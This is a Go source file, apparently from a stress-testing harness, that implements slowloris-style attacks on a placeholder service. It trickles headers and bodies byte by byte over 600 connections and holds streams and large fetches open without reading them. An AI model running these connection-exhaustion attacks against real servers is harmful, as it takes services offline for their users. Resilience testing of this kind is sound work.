package main

import (
	"context"
	"fmt"
	"io"
	"strings"
	"time"
)

// slowAttacks hold connections by doing everything slowly.
var slowAttacks = []attack{
	{name: "slow-heads", what: "600 connections send a head byte by byte", run: slowHeads},
	{name: "slow-bodies", what: "600 connections send a body byte by byte", run: slowBodies},
	{name: "slow-streams", what: "60 streams read nothing while 64 KiB items are published as fast as allowed", run: slowStreams},
	{name: "slow-fetches", what: "60 connections ask for a thousand large items and read nothing", run: slowFetches},
}

// trickle sends text a byte at a time until it is stopped.
func trickle(ctx context.Context, t *target, i int, begin, text string) error {
	w, err := t.wire(ctx, i)
	if err != nil {
		return err
	}
	defer w.close()
	if _, err := io.WriteString(w, begin); err != nil {
		return err
	}
	for n := 0; ctx.Err() == nil; n++ {
		if _, err := w.Write([]byte{text[n%len(text)]}); err != nil {
			t.did.Refused.Add(1)
			return err
		}
		rest(ctx, 500*time.Millisecond)
	}
	return nil
}

func slowHeads(ctx context.Context, t *target) {
	each(ctx, 600, func(ctx context.Context, i int) error {
		return trickle(ctx, t, i, "GET /healthz HTTP/1.1\r\nHost: edict.example\r\n", "X-Slow: yes\r\n")
	})
}

func slowBodies(ctx context.Context, t *target) {
	paths := []string{"/message/api/v2/channels", "/calculate", "/auth/token"}
	each(ctx, 600, func(ctx context.Context, i int) error {
		kind := asJSON
		if i%len(paths) == 2 {
			kind = asForm
		}
		begin := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: edict.example\r\nAuthorization: Bearer %s\r\nContent-Type: %s\r\nContent-Length: 60000\r\n\r\n", paths[i%len(paths)], t.token(i), kind)
		return trickle(ctx, t, i, begin, " ")
	})
}

const mallorys = "/message/api/v2/channels/mallorys"

// makeChannel makes the attackers' channel; it may be there.
func makeChannel(ctx context.Context, t *target) {
	flood1(ctx, t, message("POST", "/message/api/v2/channels", t.token(0), asJSON, `{"channelName":"mallorys"}`))
}

// flood1 sends one request, whatever becomes of it.
func flood1(ctx context.Context, t *target, request string) {
	w, err := t.wire(ctx, 0)
	if err != nil {
		return
	}
	defer w.close()
	_, _, _ = w.ask(request)
}

func large(size int) string { return `{"content":{"text":"` + strings.Repeat("x", size) + `"}}` }

// mute sends a request and reads nothing of the answer until the connection is cut or the attack ends.
func mute(ctx context.Context, t *target, i int, request string) error {
	w, err := t.wire(ctx, i)
	if err != nil {
		return err
	}
	defer w.close()
	if _, err := io.WriteString(w, request); err != nil {
		return err
	}
	<-ctx.Done()
	return nil
}

func slowStreams(ctx context.Context, t *target) {
	makeChannel(ctx, t)
	publish := message("POST", mallorys+"/items", t.token(0), asJSON, large(64<<10))
	go flood(ctx, t, 4, func(int) string { return publish })
	stream := message("GET", "/message/api/v2/events", t.token(0), "", "")
	each(ctx, 60, func(ctx context.Context, i int) error { return mute(ctx, t, i, stream) })
}

func slowFetches(ctx context.Context, t *target) {
	makeChannel(ctx, t)
	publish := message("POST", mallorys+"/items", t.token(0), asJSON, large(1<<20))
	go flood(ctx, t, 2, func(int) string { return publish })
	fetch := message("GET", mallorys+"/items/fetch?size=1000", t.token(1), "", "")
	rest(ctx, time.Second)
	each(ctx, 60, func(ctx context.Context, i int) error { return mute(ctx, t, i, fetch) })
}
